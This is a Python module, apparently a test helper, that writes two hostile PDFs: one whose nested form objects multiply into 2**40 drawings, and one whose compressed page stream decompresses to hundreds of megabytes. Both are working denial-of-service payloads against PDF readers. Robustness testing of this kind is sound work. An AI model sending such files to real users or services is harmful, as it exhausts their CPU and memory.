"""PDFs that are made to harm their reader: by time, by memory."""

import zlib
from collections.abc import Sequence
from pathlib import Path

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_BOX = b"/MediaBox[0 0 600 800]"


def write_forms_within_forms(path: Path, depth: int = 40) -> Path:
    """Write a page that draws a form, which draws another twice, and so on: 2**depth drawings."""
    page = b"<</Type/Page/Parent 2 0 R%s/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>>>>>" % _BOX
    forms = [
        _stream(
            b"/X Do /X Do",
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]"
            b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + number),
        )
        for number in range(depth)
    ]
    last = _stream(b"BT /F 12 Tf (Hello) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]")
    return _write(path, [page, _stream(b"/X Do"), _FONT, *forms, last])


def write_bomb(path: Path, megabytes: int = 300) -> Path:
    """Write a page whose text unpacks to hundreds of times its size."""
    packer = zlib.compressobj(1)
    text = b"BT /F 12 Tf (Hello) Tj ET\n" * 40_000
    packed = b"".join(packer.compress(text) for _ in range(megabytes)) + packer.flush()
    page = b"<</Type/Page/Parent 2 0 R%s/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>" % _BOX
    return _write(path, [page, _stream(packed, b"/Filter/FlateDecode"), _FONT])


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def _write(path: Path, objects: Sequence[bytes]) -> Path:
    """Write a file of one page, the first of the objects, which has the number 3."""
    roots = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    content, offsets = b"%PDF-1.7\n", []
    for number, value in enumerate([*roots, *objects], 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(offsets) + 1
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\n" % (
        size,
        table,
        size,
    )
    path.write_bytes(content + end + b"startxref\n%d\n%%%%EOF" % len(content))
    return path
